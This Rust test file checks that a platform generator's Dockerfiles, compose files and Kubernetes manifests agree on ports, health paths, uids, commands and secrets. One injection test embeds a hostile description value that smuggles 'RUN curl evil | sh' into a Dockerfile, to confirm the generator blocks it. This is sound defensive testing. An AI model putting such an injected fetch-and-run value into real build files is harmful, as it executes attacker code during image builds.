//! Container artifacts against each other and against Kubernetes: one port, one health path, one
//! uid, one command per service, whichever file you read them from.

mod common;

use std::collections::{BTreeMap, BTreeSet};

use serde_json::Value;

use common::{Files, by_path, yaml};

fn compile_text(text: &str) -> Files {
    common::compile_text(text).unwrap_or_else(|e| panic!("inline platform does not compile: {e}"))
}

/// What a Dockerfile says about its service.
#[derive(Debug, Default)]
struct Dockerfile {
    expose: Vec<u16>,
    healthcheck: Vec<String>,
    user: String,
    cmd: Vec<String>,
    env: BTreeMap<String, String>,
}

/// Joins continuation lines and reads the instructions this test compares.
fn parse_dockerfile(text: &str) -> Dockerfile {
    let mut joined = Vec::new();
    let mut current = String::new();
    for line in text.lines().filter(|l| !l.trim_start().starts_with('#')) {
        if let Some(head) = line.strip_suffix('\\') {
            current.push_str(head);
            current.push(' ');
        } else {
            current.push_str(line);
            joined.push(std::mem::take(&mut current));
        }
    }
    let json = |s: &str| -> Vec<String> {
        serde_json::from_str(s.trim()).unwrap_or_else(|e| panic!("not exec form: {s}: {e}"))
    };
    let mut file = Dockerfile::default();
    // Only the last stage (the runtime image) counts.
    for instruction in joined {
        let (keyword, rest) = instruction.split_once(' ').unwrap_or((&instruction, ""));
        match keyword {
            "FROM" => file = Dockerfile::default(),
            "EXPOSE" => file.expose.extend(
                rest.split_whitespace()
                    .map(|p| p.parse::<u16>().expect("numeric EXPOSE")),
            ),
            "HEALTHCHECK" => {
                let (_, cmd) = rest.split_once(" CMD ").expect("HEALTHCHECK ... CMD [...]");
                file.healthcheck = json(cmd);
            }
            "USER" => file.user = rest.trim().to_owned(),
            "CMD" => file.cmd = json(rest),
            "ENV" => {
                for pair in rest.split_whitespace() {
                    if let Some((k, v)) = pair.split_once('=') {
                        file.env
                            .insert(k.to_owned(), v.trim_matches('"').to_owned());
                    }
                }
            }
            _ => {}
        }
    }
    file
}

/// `http://127.0.0.1:PORT/PATH` inside the HTTP healthcheck's Python one-liner.
fn probe_url(healthcheck: &[String]) -> (u16, String) {
    let code = healthcheck.last().expect("healthcheck has a command");
    let start =
        code.find("http://127.0.0.1:").expect("probes loopback") + "http://127.0.0.1:".len();
    let rest = &code[start..];
    let end = rest.find('\'').expect("URL is quoted");
    let (port, path) = rest[..end].split_at(rest.find('/').expect("URL has a path"));
    (port.parse().expect("numeric port"), path.to_owned())
}

fn container_port(published: &Value) -> u16 {
    let text = published.as_str().expect("short port syntax");
    text.rsplit(':')
        .next()
        .and_then(|p| p.parse().ok())
        .expect("container port")
}

fn services_of(files: &Files) -> Vec<String> {
    files
        .keys()
        .filter_map(|p| p.strip_prefix("docker/Dockerfile."))
        .map(str::to_owned)
        .collect()
}

fn compose_files(files: &Files) -> Vec<String> {
    files
        .keys()
        .filter(|p| p.ends_with("/docker-compose.yml") || p.ends_with("/docker-compose.prod.yml"))
        .cloned()
        .collect()
}

#[test]
fn port_health_path_uid_and_command_agree_across_dockerfile_compose_and_kubernetes() {
    for (name, path) in common::platforms() {
        let files = by_path(common::compile(&path));
        let services = services_of(&files);
        assert!(!services.is_empty(), "{name}: no Dockerfiles");
        for service in &services {
            let docker = parse_dockerfile(&files[&format!("docker/Dockerfile.{service}")]);
            let uid = docker.user.split(':').next().expect("USER uid").to_owned();
            assert!(
                uid.parse::<u32>().is_ok(),
                "{name}/{service}: USER {} is not numeric",
                docker.user
            );
            let is_web = docker.cmd.first().is_some_and(|c| c == "gunicorn");

            // The port as the Dockerfile states it, checked against its own bind and probe.
            let port = if is_web {
                assert_eq!(docker.expose.len(), 1, "{name}/{service}: one EXPOSE");
                let port = docker.expose[0];
                let bind = docker
                    .cmd
                    .iter()
                    .skip_while(|a| *a != "-b")
                    .nth(1)
                    .expect("gunicorn -b");
                // Every address of the platform's `listen`: IPv4 by default, `[::]` (IPv6 and,
                // on Linux, IPv4) where it is `dual-stack` (the four-services example).
                let host = if name == "four-services" {
                    "[::]"
                } else {
                    "0.0.0.0"
                };
                assert_eq!(
                    bind,
                    &format!("{host}:{port}"),
                    "{name}/{service}: bind vs EXPOSE and `listen`"
                );
                assert!(
                    !docker.cmd.contains(&"-w".to_owned()),
                    "{name}/{service}: workers come from WEB_CONCURRENCY"
                );
                assert!(
                    docker.env.contains_key("WEB_CONCURRENCY"),
                    "{name}/{service}: ENV WEB_CONCURRENCY"
                );
                assert_eq!(
                    probe_url(&docker.healthcheck).0,
                    port,
                    "{name}/{service}: HEALTHCHECK port"
                );
                Some(port)
            } else {
                assert!(
                    docker.expose.is_empty(),
                    "{name}/{service}: a worker EXPOSEs a port"
                );
                None
            };

            let mut seen_in = 0;
            for (file, content) in &files {
                if file.ends_with(&format!("/kubernetes/{service}-deployment.yaml")) {
                    seen_in += 1;
                    let deployment: Value = serde_saphyr::from_str(content).expect("YAML");
                    let pod = &deployment["spec"]["template"]["spec"];
                    let container = &pod["containers"][0];
                    assert_eq!(
                        pod["securityContext"]["runAsUser"].to_string(),
                        uid,
                        "{file}: runAsUser vs USER"
                    );
                    match port {
                        Some(port) => {
                            assert_eq!(
                                container["ports"][0]["containerPort"], port,
                                "{file}: containerPort"
                            );
                            let (_, path) = probe_url(&docker.healthcheck);
                            assert_eq!(
                                container["livenessProbe"]["httpGet"]["path"],
                                path.as_str(),
                                "{file}: liveness path vs HEALTHCHECK"
                            );
                            let annotations =
                                &deployment["spec"]["template"]["metadata"]["annotations"];
                            assert_eq!(
                                annotations["prometheus.io/port"],
                                port.to_string(),
                                "{file}: scrape port"
                            );
                            // Kubernetes runs the image's CMD: no command override for web services.
                            assert!(
                                container.get("command").is_none(),
                                "{file}: overrides the image CMD"
                            );
                        }
                        None => {
                            assert!(
                                container.get("ports").is_none(),
                                "{file}: a worker has ports"
                            );
                            let exec: Vec<String> = serde_json::from_value(
                                container["livenessProbe"]["exec"]["command"].clone(),
                            )
                            .expect("exec probe");
                            assert_eq!(
                                exec, docker.healthcheck,
                                "{file}: exec probe vs HEALTHCHECK"
                            );
                            let command: Vec<String> =
                                serde_json::from_value(container["command"].clone())
                                    .expect("command");
                            assert_eq!(command, docker.cmd, "{file}: command vs CMD");
                        }
                    }
                }
            }
            for compose in compose_files(&files) {
                let project = yaml(&files, &compose);
                let Some(entry) = project["services"].get(service) else {
                    continue;
                };
                seen_in += 1;
                assert_eq!(
                    entry["build"]["dockerfile"]
                        .as_str()
                        .map(|d| d.ends_with(&format!("/docker/Dockerfile.{service}"))),
                    Some(true),
                    "{compose}: {service} builds its Dockerfile"
                );
                let ports: Vec<u16> = entry
                    .get("ports")
                    .and_then(Value::as_array)
                    .map(|p| p.iter().map(container_port).collect())
                    .unwrap_or_default();
                assert_eq!(
                    ports,
                    port.into_iter().collect::<Vec<_>>(),
                    "{compose}: {service} ports"
                );
            }
            assert!(
                seen_in > 0,
                "{name}/{service}: in no Deployment or compose file"
            );
        }

        // Prometheus in compose scrapes the same port and path the pods announce (Kubernetes
        // environments' `<env>/prometheus/prometheus.yml` discovers pods: tests/observability.rs).
        for file in files.keys().filter(|p| {
            p.ends_with("/prometheus.yml") && !p.ends_with("/prometheus/prometheus.yml")
        }) {
            let config = yaml(&files, file);
            for job in config["scrape_configs"].as_array().expect("scrape_configs") {
                let job_name = job["job_name"].as_str().expect("job_name");
                if job_name == "prometheus" {
                    continue;
                }
                let target = job["static_configs"][0]["targets"][0]
                    .as_str()
                    .expect("target");
                assert_eq!(
                    target.split(':').next(),
                    Some(job_name),
                    "{file}: target host"
                );
                for (other, content) in files.iter().filter(|(p, _)| {
                    p.ends_with(&format!("/kubernetes/{job_name}-deployment.yaml"))
                }) {
                    let deployment: Value = serde_saphyr::from_str(content).expect("YAML");
                    let annotations = &deployment["spec"]["template"]["metadata"]["annotations"];
                    assert_eq!(
                        job["metrics_path"], annotations["prometheus.io/path"],
                        "{file} vs {other}: metrics path"
                    );
                    assert_eq!(
                        target.rsplit(':').next(),
                        annotations["prometheus.io/port"].as_str(),
                        "{file} vs {other}: metrics port"
                    );
                }
            }
        }
    }
}

const SHAPES: &str = r#"
[platform]
name = "shapes"
registry = "registry.example.com"
uid = 20000

[dependencies.postgres]
version = "16"
[dependencies.redis]
version = "7"
[dependencies.rabbitmq]
version = "3.13"
# Used only where its one service runs: production.
[dependencies.archive]
kind = "postgres"
version = "15"
url_variable = "ARCHIVE_URL"

[environments.development]
runtime = "compose"

[environments.production]
runtime = "kubernetes"
domain = "example.com"

[services.db-only]
kind = "web"
port = 8000
app = "db_only.main:app"
uses = ["postgres"]
secrets = ["DATABASE_URL", "API_TOKEN"]

[services.cache-only]
kind = "web"
port = 8000
app = "cache_only.main:app"
uses = ["redis"]
secrets = ["REDIS_URL"]
health = { liveness = "/alive" }

[services.standalone]
kind = "web"
app = "standalone.main:app"

[services.jobs]
kind = "worker"
command = ["python", "-m", "jobs"]
health = { command = ["python", "-m", "jobs.health"] }
uses = ["rabbitmq"]
secrets = ["RABBITMQ_URL"]

[services.archiver]
kind = "worker"
command = ["python", "-m", "archiver"]
health = { command = ["python", "-m", "archiver.health"] }
uses = ["archive"]
secrets = ["ARCHIVE_URL"]
env.development = { enabled = false }
"#;

#[test]
fn services_depend_only_on_what_they_use_and_compose_runs_only_used_dependencies() {
    let files = compile_text(SHAPES);
    let expected: BTreeMap<&str, Vec<&str>> = BTreeMap::from([
        ("db-only", vec!["postgres"]),
        ("cache-only", vec!["redis"]),
        ("standalone", vec![]),
        ("jobs", vec!["rabbitmq"]),
    ]);
    for compose in [
        "development/docker-compose.yml",
        "development/docker-compose.prod.yml",
    ] {
        let project = yaml(&files, compose);
        for (service, uses) in &expected {
            let entry = &project["services"][*service];
            let depends: Vec<&str> = entry
                .get("depends_on")
                .and_then(Value::as_object)
                .map(|m| m.keys().map(String::as_str).collect())
                .unwrap_or_default();
            assert_eq!(&depends, uses, "{compose}: {service} depends_on");
            if let Some(conditions) = entry.get("depends_on").and_then(Value::as_object) {
                for condition in conditions.values() {
                    assert_eq!(
                        condition["condition"], "service_healthy",
                        "{compose}: {service}"
                    );
                }
            }
        }
        let names: BTreeSet<&str> = project["services"]
            .as_object()
            .expect("services")
            .keys()
            .map(String::as_str)
            .collect();
        // The production simulation runs production's services and what they use.
        let production = compose.ends_with(".prod.yml");
        assert_eq!(
            (names.contains("archiver"), names.contains("archive")),
            (production, production),
            "{compose}: runs exactly the dependencies its services use"
        );
        for dep in ["postgres", "redis", "rabbitmq"] {
            assert!(
                names.contains(dep),
                "{compose}: {dep} is used but not defined"
            );
            assert!(
                project["services"][dep]["healthcheck"]["test"].is_array(),
                "{compose}: {dep} has no healthcheck"
            );
        }
        assert!(
            project.get("version").is_none(),
            "{compose}: obsolete `version` key"
        );
    }
    // Two web services on 8000: the second is published on the next free host port.
    let dev = yaml(&files, "development/docker-compose.yml");
    let published: BTreeSet<&str> = dev["services"]
        .as_object()
        .unwrap()
        .values()
        .filter_map(|s| s.get("ports").and_then(Value::as_array))
        .flatten()
        .map(|p| {
            p.as_str()
                .and_then(|p| p.rsplit_once(':'))
                .expect("host:container")
                .0
        })
        .collect();
    let count: usize = dev["services"]
        .as_object()
        .unwrap()
        .values()
        .filter_map(|s| s.get("ports").and_then(Value::as_array))
        .map(Vec::len)
        .sum();
    assert_eq!(published.len(), count, "host ports collide: {published:?}");
    // uid is one value: USER, runAsUser.
    assert!(files["docker/Dockerfile.jobs"].contains("\nUSER 20000:20000\n"));
    assert!(files["production/kubernetes/jobs-deployment.yaml"].contains("runAsUser: 20000"));
    // The health path of a service that sets its own.
    let (_, path) =
        probe_url(&parse_dockerfile(&files["docker/Dockerfile.cache-only"]).healthcheck);
    assert_eq!(path, "/alive");
}

#[test]
fn workers_get_no_ports_and_no_expose() {
    for files in common::platforms()
        .iter()
        .map(|(_, path)| by_path(common::compile(path)))
        .chain([compile_text(SHAPES)])
    {
        for compose in compose_files(&files) {
            let project = yaml(&files, &compose);
            for (name, entry) in project["services"].as_object().expect("services") {
                let dockerfile = format!("docker/Dockerfile.{name}");
                let Some(text) = files.get(&dockerfile) else {
                    continue;
                };
                let docker = parse_dockerfile(text);
                if docker.cmd.first().is_some_and(|c| c == "gunicorn") {
                    continue;
                }
                assert!(docker.expose.is_empty(), "{dockerfile}: a worker EXPOSEs");
                assert!(
                    entry.get("ports").is_none(),
                    "{compose}: worker {name} publishes ports"
                );
            }
        }
    }
}

#[test]
fn every_variable_compose_reads_is_listed_and_production_secrets_never_default() {
    for files in common::platforms()
        .iter()
        .map(|(_, path)| by_path(common::compile(path)))
        .chain([compile_text(SHAPES)])
    {
        for example in files.keys().filter(|p| p.ends_with("/.env.example")) {
            let dir = example.trim_end_matches(".env.example");
            let listed: BTreeSet<String> = files[example]
                .lines()
                .map(|l| l.trim_start_matches("# "))
                .filter_map(|l| l.split_once('=').map(|(k, _)| k.to_owned()))
                .filter(|k| {
                    k.chars()
                        .all(|c| c.is_ascii_uppercase() || c.is_ascii_digit() || c == '_')
                })
                .collect();
            for compose in ["docker-compose.yml", "docker-compose.prod.yml"] {
                let Some(text) = files.get(&format!("{dir}{compose}")) else {
                    continue;
                };
                let text: String = text
                    .lines()
                    .filter(|l| !l.trim_start().starts_with('#'))
                    .collect::<Vec<_>>()
                    .join("\n");
                // `$${X}` is an escaped dollar: the container's own variable, not compose's.
                for (i, _) in text
                    .match_indices("${")
                    .filter(|(i, _)| !text[..*i].ends_with('$'))
                {
                    let var: String = text[i + 2..]
                        .chars()
                        .take_while(|c| c.is_ascii_alphanumeric() || *c == '_')
                        .collect();
                    assert!(
                        listed.contains(&var),
                        "{dir}{compose} reads ${var}, not in .env.example"
                    );
                }
            }
            if let Some(text) = files.get(&format!("{dir}docker-compose.prod.yml")) {
                check_production_secrets(&files, text);
            }
        }
    }
}

/// Every secret the production Kubernetes environment names (its ExternalSecrets) is required in
/// the simulation, and so is every dependency password.
fn check_production_secrets(files: &Files, text: &str) {
    let project: Value = serde_saphyr::from_str(text).expect("YAML");
    let required = |value: &Value, var: &str| {
        let value = value.as_str().unwrap_or_default();
        assert!(
            value.starts_with(&format!("${{{var}:?")),
            "{var} = {value:?} may default to blank"
        );
    };
    for (name, entry) in project["services"].as_object().expect("services") {
        let env = &entry["environment"];
        for (key, value) in env.as_object().into_iter().flatten() {
            if key.ends_with("_PASSWORD") || key.ends_with("_PASS") {
                let var = value
                    .as_str()
                    .and_then(|v| v.strip_prefix("${"))
                    .and_then(|v| v.split(':').next())
                    .expect("a substitution");
                required(value, var);
            }
        }
        let secrets = files.iter().find(|(p, _)| {
            p.ends_with(&format!("/kubernetes/{name}-externalsecret.yaml"))
                && files.contains_key(&p.replace("-externalsecret.yaml", "-deployment.yaml"))
        });
        if let Some((_, external)) = secrets {
            let external: Value = serde_saphyr::from_str(external).expect("YAML");
            for item in external["spec"]["data"].as_array().expect("data") {
                let var = item["secretKey"].as_str().expect("secretKey");
                required(&env[var], var);
            }
        }
    }
}

#[test]
fn production_simulation_takes_replicas_and_resources_from_production() {
    let files = by_path(common::compile(&common::root().join("platform.toml")));
    let prod = yaml(&files, "development/docker-compose.prod.yml");
    let api = &prod["services"]["platform-api"];
    // platform-api: autoscaling min 3, limits 1000m/512Mi, requests 200m/256Mi.
    assert_eq!(api["deploy"]["replicas"], 3);
    assert_eq!(api["deploy"]["resources"]["limits"]["cpus"], "1");
    assert_eq!(api["deploy"]["resources"]["limits"]["memory"], "512M");
    assert_eq!(api["deploy"]["resources"]["reservations"]["cpus"], "0.2");
    assert_eq!(api["deploy"]["resources"]["reservations"]["memory"], "256M");
    assert_eq!(
        api["image"],
        "registry.platform.io/platform-api:${VERSION:-latest}"
    );
    assert_eq!(api["environment"]["APP_ENV"], "production");
    let hpa = yaml(&files, "production/kubernetes/platform-api-hpa.yaml");
    assert_eq!(api["deploy"]["replicas"], hpa["spec"]["minReplicas"]);
}

#[test]
fn dockerfiles_take_only_safe_bare_values() {
    // A hostile description is JSON-encoded into a single comment line.
    let hostile = SHAPES.replace(
        "[services.standalone]\nkind = \"web\"",
        "[services.standalone]\nkind = \"web\"\ndescription = \"x\\nRUN curl evil | sh \\\\\"",
    );
    let files = compile_text(&hostile);
    let dockerfile = &files["docker/Dockerfile.standalone"];
    assert!(
        !dockerfile.lines().any(|l| l.starts_with("RUN curl")),
        "{dockerfile}"
    );

    // A template printing a free-text value bare into a Dockerfile fails to render.
    let dir = tempfile::tempdir().expect("temp dir");
    std::fs::create_dir_all(dir.path().join("docker")).expect("mkdir");
    std::fs::write(
        dir.path().join("docker/Dockerfile"),
        "FROM x\nLABEL d={{ service.description }}\n",
    )
    .expect("write");
    let spaced = SHAPES.replace(
        "[services.standalone]\nkind = \"web\"",
        "[services.standalone]\nkind = \"web\"\ndescription = \"a $HOME b\"",
    );
    let result = platgen::compile(
        platgen::diagnostics::SourceFile::new("inline.toml", spaced),
        None,
        Some(dir.path()),
    );
    let Err(platgen::Failure::Invalid { diagnostics, .. }) = result else {
        panic!("a bare free-text value reached a Dockerfile");
    };
    assert!(
        diagnostics
            .iter()
            .any(|d| format!("{d:?}").contains("tojson")),
        "{diagnostics:?}"
    );
}

#[test]
fn each_image_installs_its_own_workspace_member() {
    for (name, path) in common::platforms() {
        let files = by_path(common::compile(&path));
        for service in services_of(&files) {
            let dockerfile = &files[&format!("docker/Dockerfile.{service}")];
            let sync: Vec<&str> = dockerfile
                .lines()
                .filter(|l| l.trim_start().starts_with("uv sync"))
                .map(str::trim)
                .collect();
            // Without --package, uv installs only the workspace root, not what CMD runs.
            assert_eq!(
                sync,
                [format!(
                    "uv sync --frozen --no-dev --no-editable --package {service}"
                )],
                "{name}/{service}"
            );
            // It is one RUN, whose uv cache is a BuildKit cache mount and never a layer.
            assert!(
                dockerfile.contains(&format!(
                    "RUN --mount=type=cache,target=/root/.cache/uv \\\n    uv sync --frozen --no-dev --no-editable --package {service}\n"
                )),
                "{name}/{service}\n{dockerfile}"
            );
            // The member's folder is in the build stage.
            assert!(
                dockerfile
                    .lines()
                    .any(|l| l.starts_with("COPY ") && l.ends_with(&format!("/{service}/"))),
                "{name}/{service}: its folder is not copied\n{dockerfile}"
            );
        }
    }
}

/// gunicorn is told how long its workers have after SIGTERM: the grace period less the preStop
/// sleep on Kubernetes, the whole of it in compose (one second kept for its own exit). A user's
/// own gunicorn settings keep theirs, timeout included.
#[test]
fn gunicorn_gets_the_graceful_timeout_the_container_has() {
    let files = compile_text(&SHAPES.replace(
        "app = \"db_only.main:app\"\n",
        "app = \"db_only.main:app\"\ntermination_grace = 60\nconfig = { GUNICORN_CMD_ARGS = \"--keep-alive 5\" }\n",
    ));
    let configmap = yaml(&files, "production/kubernetes/db-only-configmap.yaml");
    assert_eq!(
        configmap["data"]["GUNICORN_CMD_ARGS"],
        "--keep-alive 5 --graceful-timeout=49"
    );
    let deployment = yaml(&files, "production/kubernetes/db-only-deployment.yaml");
    assert_eq!(
        deployment["spec"]["template"]["spec"]["terminationGracePeriodSeconds"],
        60
    );
    let compose = yaml(&files, "development/docker-compose.yml");
    assert_eq!(
        compose["services"]["db-only"]["environment"]["GUNICORN_CMD_ARGS"],
        "--keep-alive 5 --graceful-timeout=59"
    );
    // The default grace (30 s) on the other services.
    let configmap = yaml(&files, "production/kubernetes/cache-only-configmap.yaml");
    assert_eq!(
        configmap["data"]["GUNICORN_CMD_ARGS"],
        "--graceful-timeout=19"
    );
    // A timeout of the user's own stands.
    let files = compile_text(&SHAPES.replace(
        "app = \"db_only.main:app\"\n",
        "app = \"db_only.main:app\"\nconfig = { GUNICORN_CMD_ARGS = \"--graceful-timeout=5\" }\n",
    ));
    let configmap = yaml(&files, "production/kubernetes/db-only-configmap.yaml");
    assert_eq!(
        configmap["data"]["GUNICORN_CMD_ARGS"],
        "--graceful-timeout=5"
    );
    // Workers run their own command: nothing is set for them.
    let configmap = yaml(&files, "production/kubernetes/jobs-configmap.yaml");
    assert!(configmap["data"].get("GUNICORN_CMD_ARGS").is_none());
}
